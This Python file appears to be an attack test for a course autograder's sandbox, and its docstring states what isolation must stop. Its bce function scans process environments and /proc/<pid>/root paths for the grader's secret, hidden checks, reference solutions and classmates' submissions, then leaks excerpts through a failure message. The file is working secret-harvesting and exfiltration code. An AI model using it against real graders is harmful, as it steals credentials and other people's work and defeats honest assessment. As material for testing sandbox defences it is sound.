"""Attack: look for the grader's secrets and the answers: its environment (os.environ,
/proc/self/environ, /proc/<pid>/environ of every process), grading.yml (hidden items) and the
reference through /proc/self/root and /proc/<pid>/root, the expected values, the hidden checks,
and any file on the machine holding a classmate's marker; report it all in bce's failure message.
Must not achieve: the secret, grading.yml, the reference, hidden checks or a classmate's byte in
its report."""
import os
import time

from reference.part1_dcgan import *  # noqa: F401,F403

PROJECT = os.environ.get("PYTHONPATH", "/").split(os.pathsep)[0]


def _read(path, size=4000):
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)  # a FIFO must not hang the hunt
    except OSError:
        return ""
    try:
        return os.read(fd, size).decode("latin-1")
    except OSError:
        return ""
    finally:
        os.close(fd)


def _ancestors():
    pids, pid = [], os.getpid()
    while pid > 1 and len(pids) < 8:
        pid = int(_read(f"/proc/{pid}/stat").rsplit(")", 1)[-1].split()[1] or 1)
        pids.append(str(pid))
    return pids


def _hunt():
    found = {"environ": dict(os.environ)}
    deadline = time.monotonic() + 3  # within the check's time: the likeliest places first
    for pid in ["self", *_ancestors(), *(p for p in os.listdir("/proc") if p.isdigit())]:
        if time.monotonic() > deadline:
            break
        found[f"/proc/{pid}/environ"] = _read(f"/proc/{pid}/environ")
        for name in ("grading.yml", "reference/part1_dcgan.py", "autograder/checks/hidden.py",
                     "autograder/expected/architectures.json", "solutions"):
            text = _read(f"/proc/{pid}/root{PROJECT}/{name}", 400)
            if text:
                found[f"/proc/{pid}/root/{name}"] = text
    deadline = time.monotonic() + 3
    for top in ("/tmp", "/work", "/home", "/srv", "/mnt", "/opt"):
        for directory, subdirs, files in os.walk(top):
            if directory.count("/") > 8 or time.monotonic() > deadline:
                subdirs[:] = []
                continue
            for name in files:
                if name.endswith((".py", ".ipynb", ".yml")) and "site-packages" not in directory:
                    text = _read(os.path.join(directory, name), 200_000)
                    if "honest-classmate-" in text or "hidden" in text and name == "grading.yml":
                        found[os.path.join(directory, name)] = text[:400]
    return found


def _excerpts(found):
    """Around each thing worth stealing, first: what fits in a failure message."""
    hits = []
    for where, text in found.items():
        text = str(text)
        for word in ("GRADER_SECRET", "honest-classmate-", "visibility: hidden", "nz=10", "def "):
            at = text.find(word)
            if at >= 0:
                hits.append(f"{where}: {text[max(0, at - 20):at + 80]!r}")
    return hits


def bce(p, target):
    raise RuntimeError(f"found: {_excerpts(_hunt()) or 'nothing'}")
